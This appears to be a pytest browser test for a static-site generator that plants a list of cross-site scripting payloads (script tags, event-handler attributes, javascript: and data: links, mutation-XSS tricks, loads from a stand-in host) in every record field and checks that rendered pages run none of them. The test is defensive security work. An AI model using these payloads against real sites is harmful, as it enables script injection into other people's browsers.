"""Text in a record never runs as a script in either edition, even when the check is bypassed.

Each field of each record that takes text holds attempts at a script. The rules would refuse most
of them; here they are printed all the same, and Chromium is told to forget the pages' own policy:
what stops them is that templates escape and that prose is cleaned, and nothing else.
"""

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from dialoog import pipeline
from dialoog.site import edition as printing
from tests import marked
from tests.browser.conftest import EDITIONS
from tests.frozen import FROZEN_ON

ATTACKS = (
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    "' onmouseover=alert(4) onfocus=alert(4) autofocus x='",
    '" onmouseover=alert(5) onfocus=alert(5) autofocus x="',
    "<svg/onload=alert(6)>",
    "<svg><script href=//aanval.example/x.js></script></svg>",
    "<iframe srcdoc='<script>parent.alert(7)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(8)></iframe>",
    "<img src=https://aanval.example/pixel.gif>",
    "![x](https://aanval.example/pixel.gif)",
    "<link rel=stylesheet href=//aanval.example/x.css>",
    "<style>@import '//aanval.example/y.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://aanval.example/'>",
    "<base href=https://aanval.example/>",
    "<details open ontoggle=alert(9)>x</details>",
    "<video><source onerror=alert(10)></video><audio src onerror=alert(10)>",
    "<object data=//aanval.example/x></object><embed src=//aanval.example/y>",
    "<form action=javascript:alert(11)><button autofocus onfocus=alert(11)>x</button></form>",
    "[x](javascript:alert(12)) [x](java&#115;cript:alert(12)) <javascript:alert(12)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](x "onmouseover=alert(13) x=") *x*{: onmouseover=alert(13) style=color:red }',
    "</textarea></style></script><script>alert(14)</script>",
    "--><script>alert(15)</script><!--",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(16)</script>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(17)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(18)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(19)>'>",
    "<svg><animate onbegin=alert(20) attributeName=x dur=1s>",
    "<body onload=alert(21)><marquee onstart=alert(21)>",
    "{{ alert(22) }} {% x %} ${alert(22)} <%= alert(22) %> `${alert(22)}`",
    "\\u003cscript\\u003ealert(23)\\u003c/script\\u003e &lt;script&gt;alert(23)&lt;/script&gt;",
    "<div style='background:url(//aanval.example/z.png)'>x</div>",
)
ROUNDS = 2
"""Attempts swallow each other (``<!--``): every other one stands with the next."""

HOOK = """window.ran = [];
for (const name of ['alert', 'prompt', 'confirm'])
  window[name] = what => { window.ran.push(`${name}: ${what}`); };"""
TOUCH = """() => {
  const wrong = [...window.ran];
  for (const one of document.querySelectorAll('*')) {
    for (const {name, value} of one.attributes) {
      if (/^on/i.test(name)) wrong.push(`${one.localName} ${name}`);
      if (/^(href|src|action|formaction|data)$/i.test(name)
        && /^\\s*(javascript|data|vbscript):/i.test(value) && !/^data:image\\//.test(value))
        wrong.push(`${one.localName} ${value}`);
    }
    if (/^(iframe|object|embed|base|frame)$/.test(one.localName)) wrong.push(one.localName);
    for (const event of ['mouseover', 'focus', 'error', 'toggle', 'load'])
      one.dispatchEvent(new Event(event));
  }
  return [...wrong, ...window.ran.slice(wrong.length)];
}"""


@pytest.fixture
def seen(browser: Any) -> Iterator[tuple[Any, list[str]]]:
    """A page without the site's policy that records the scripts run and requests to other hosts."""
    context = browser.new_context(bypass_csp=True)
    context.add_init_script(HOOK)
    page, wrong = context.new_page(), []

    def asked(route: Any) -> None:
        if urlsplit(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            wrong.append(f"{page.url} asks {route.request.url}")
            route.abort()

    context.route("**/*", asked)

    def dismissed(dialog: Any) -> None:
        wrong.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismissed)
    yield page, wrong
    context.close()


def attacked(root: Path, attacks: str, monkeypatch: pytest.MonkeyPatch) -> marked.Marked:
    """A repository with the attacks in each field of each model that takes them."""
    usual = marked._candidates

    def candidates(field: Any, number: int) -> Iterator[tuple[Any, tuple[str, ...]]]:
        word = f"zq-{number:03}x"
        for text in (f"{word} {attacks}", f"{word}{attacks[:60]}", f"{word}'\"<b>"):
            yield text, (word,)
        yield from usual(field, number)

    monkeypatch.setattr(marked, "_candidates", candidates)
    made = marked.repository_with_markers(root)
    (goal,) = made.repo.files["content/offers/zqaanbod.md"]["goals"]
    for path, data in made.repo.files.items():
        if path.endswith("/request.yaml"):
            data["goals"] = [goal["id"]]
    return made


@pytest.mark.parametrize("edition", EDITIONS)
@pytest.mark.parametrize("turn", range(ROUNDS))
def test_no_text_of_a_record_runs_as_script(
    edition: str,
    turn: int,
    seen: tuple[Any, list[str]],
    serve: tuple[str, Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    repo = attacked(tmp_path, " ".join(ATTACKS[turn::ROUNDS]), monkeypatch)
    files = dict(printing.render_edition(repo.ledger(FROZEN_ON), edition, [pipeline.TEMPLATES]))
    page, wrong = seen
    pages = 0
    for address in write_site(files, serve, f"aanval-{edition}-{turn}"):
        page.goto(address)
        pages += 1
        wrong += [f"{address}: {what}" for what in page.evaluate(TOUCH)]
    assert wrong == []
    assert pages > 15
    shown = b"".join(files.values())
    assert shown.count(b"alert(") + shown.count(b"aanval.example") > 50, "the attempts are there"


def write_site(files: dict[str, bytes], serve: tuple[str, Path], name: str) -> list[str]:
    """Write an edition into the served folder; return the addresses that a browser draws."""
    url, folder = serve
    for path, data in files.items():
        place = folder / name / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(data)
    drawn = (".html", ".svg", ".xml")
    return [f"{url}/{name}/{path}" for path in files if path.endswith(drawn)]


def test_a_text_that_runs_as_script_is_noticed(
    seen: tuple[Any, list[str]], serve: tuple[str, Path]
) -> None:
    page, wrong = seen
    blind = set()
    for number, attack in enumerate(ATTACKS[:7] + ATTACKS[9:10] + ATTACKS[14:15]):
        document = f"<p>{attack}</p><a title='{attack}'>x</a><a title=\"{attack}\">x</a>".encode()
        (address,) = write_site({"x.html": document}, serve, f"raak-{number}")
        page.goto(address)
        if not page.evaluate(TOUCH) + wrong:
            blind.add(attack)
        wrong.clear()
    assert blind == set()
